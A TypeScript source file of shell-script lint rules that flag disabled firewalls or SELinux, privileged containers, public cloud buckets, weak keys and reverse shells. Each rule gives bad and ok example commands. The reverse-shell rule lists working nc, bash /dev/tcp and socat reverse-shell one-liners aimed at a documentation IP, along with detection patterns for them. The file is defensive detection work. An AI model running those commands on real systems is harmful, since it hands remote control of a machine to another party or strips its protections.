import type { DocumentRule } from '../../document-rules';
import { plainText, redirections } from '../command';
import { bash } from '../example';
import { matching, type ShellScript } from '../script';

const ADDRESS = /^\/dev\/(?:tcp|udp)\//;

/** What opens a machine, a container or a bucket to others. */
export const EXPOSURE_RULES: readonly DocumentRule<ShellScript>[] = [
  {
    name: 'protection-off',
    severity: 'warning',
    category: 'security',
    languages: ['shell'],
    title: 'A protection of the machine is switched off: its firewall, SELinux or AppArmor',
    advice: 'Keep it on, and allow what the program needs.',
    cwe: 693,
    help: 'https://cwe.mitre.org/data/definitions/693.html',
    find: (script) =>
      matching(script, ({ name, words }) => {
        const text = words.join(' ');
        if (name === 'setenforce') return /^(?:0|permissive)$/i.test(text);
        if (name === 'ufw') return /^(?:--force )?disable$/.test(text);
        if (/^ip6?tables$/.test(name)) return /^-P (?:INPUT|FORWARD) ACCEPT/.test(text);
        if (name === 'systemctl') return /\b(?:stop|disable|mask)\b.*\b(?:firewalld|ufw|apparmor|auditd)\b/.test(text);
        return name === 'sed' && /SELINUX=(?:disabled|permissive)/.test(text);
      }),
    examples: {
      bad: [
        bash('setenforce 0'),
        bash('sudo ufw disable'),
        bash('systemctl disable --now firewalld'),
        bash('iptables -P INPUT ACCEPT'),
      ],
      ok: [
        bash('ufw allow 443/tcp'),
        bash('setenforce 1'),
        bash('systemctl restart firewalld'),
        bash('iptables -P INPUT DROP'),
      ],
    },
  },
  {
    name: 'container-owns-host',
    severity: 'warning',
    category: 'security',
    languages: ['shell'],
    title: 'The container gets the rights of the host: whoever breaks into it has the machine',
    advice: 'Take the switch out, and add the one capability or device that is needed.',
    cwe: 250,
    help: 'https://docs.docker.com/engine/security/',
    find: (script) =>
      matching(script, ({ name, words }) => {
        const text = words.join(' ');
        return (
          /^(?:docker|podman|nerdctl)$/.test(name) &&
          /^(?:container )?(?:run|create)\b/.test(text) &&
          /(?:^|\s)(?:--privileged(?:=true)?(?:\s|$)|--pid[= ]host|--userns[= ]host|--cap-add[= ](?:ALL|SYS_ADMIN)\b|(?:-v|--volume)[= ]?\/(?:etc|root)?:)/.test(
            text,
          )
        );
      }),
    examples: {
      bad: [
        bash('docker run --privileged app'),
        bash('sudo podman run --rm --pid=host app'),
        bash('docker run -v /:/host app'),
      ],
      ok: [
        bash('docker run --rm app'),
        bash('docker run --cap-add=NET_ADMIN app'),
        bash('docker run -v "$PWD:/work" app'),
        bash('docker exec --privileged-mode app'),
      ],
    },
  },
  {
    name: 'public-bucket',
    severity: 'warning',
    category: 'security',
    languages: ['shell'],
    title: 'What is uploaded can be read by everybody in the internet',
    advice: 'Leave the rights of the bucket as they are, and serve what is public through a CDN.',
    cwe: 732,
    help: 'https://docs.aws.amazon.com/AmazonS3/latest/userguide/acl-overview.html',
    find: (script) =>
      matching(script, ({ name, words }) => {
        const text = words.join(' ');
        if (name === 'aws') return /--acl[= ]public-read/.test(text);
        return /^(?:gsutil|gcloud)$/.test(name) && /\ballUsers\b/.test(text) && !/\bremove|\s-d\b/.test(text);
      }),
    examples: {
      bad: [
        bash('aws s3 cp a s3://bucket/a --acl public-read'),
        bash('aws s3api put-bucket-acl --bucket b --acl public-read-write'),
        bash('gsutil iam ch allUsers:objectViewer gs://bucket'),
      ],
      ok: [
        bash('aws s3 cp a s3://bucket/a'),
        bash('aws s3 cp a s3://bucket/a --acl private'),
        bash('gsutil iam ch -d allUsers gs://bucket'),
      ],
    },
  },
  {
    name: 'weak-crypto',
    severity: 'warning',
    category: 'security',
    languages: ['shell'],
    title: 'The key or cipher is too weak: it is broken in practice or soon will be',
    advice: 'Use Ed25519, or RSA with 3072 bits and more, and AES-256 with -pbkdf2.',
    cwe: 326,
    help: 'https://cwe.mitre.org/data/definitions/326.html',
    find: (script) =>
      matching(script, ({ name, words }) => {
        const text = words.join(' ');
        if (name === 'ssh-keygen')
          return (
            /-t\s*dsa\b/.test(text) || (/-b\s*(?:512|768|1024)\b/.test(text) && !/-t\s*(?:ecdsa|ed25519)/.test(text))
          );
        if (name !== 'openssl') return false;
        return /^(?:genrsa\b.*\b(?:512|768|1024)$|enc\b.*-(?:des|des3|rc2|rc4|bf)\b|req\b.*(?:rsa:(?:512|1024)\b|-(?:md5|sha1)\b)|(?:des3?|rc4)\b)/.test(
          text,
        );
      }),
    examples: {
      bad: [
        bash('ssh-keygen -t dsa -f key'),
        bash('openssl genrsa -out key.pem 1024'),
        bash('openssl enc -des3 -in a -out b'),
        bash('openssl req -x509 -newkey rsa:1024 -keyout k'),
      ],
      ok: [
        bash('ssh-keygen -t ed25519 -f key'),
        bash('openssl genrsa -out key.pem 4096'),
        bash('openssl enc -aes-256-cbc -pbkdf2 -in a -out b'),
        bash('openssl dgst -sha1 a'),
      ],
    },
  },
  {
    name: 'reverse-shell',
    severity: 'blocker',
    category: 'security',
    languages: ['shell'],
    title: 'A shell is handed to another machine',
    advice: 'Take it out; if nobody knows why it is here, look at who added it.',
    cwe: 506,
    help: 'https://attack.mitre.org/techniques/T1059/004/',
    find: (script) =>
      matching(script, ({ name, words, node }) => {
        if (/^(?:nc|ncat|netcat|socat)$/.test(name))
          return /(?:^|\s)-[a-z]*[ec]\s+\S*sh\b|exec:\S*sh\b/i.test(words.join(' '));
        if (!/^(?:ba|da|z|k)?sh$/.test(name) || !words.includes('-i')) return false;
        return redirections(node).some(({ target }) => ADDRESS.test(plainText(target)));
      }),
    examples: {
      bad: [
        bash('nc -e /bin/sh 203.0.113.9 4444'),
        bash('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
        bash('socat tcp:203.0.113.9:4444 exec:/bin/bash,pty'),
      ],
      ok: [bash('nc -z localhost 5432'), bash('bash -i'), bash('timeout 1 bash -c "</dev/tcp/localhost/80"')],
    },
  },
];
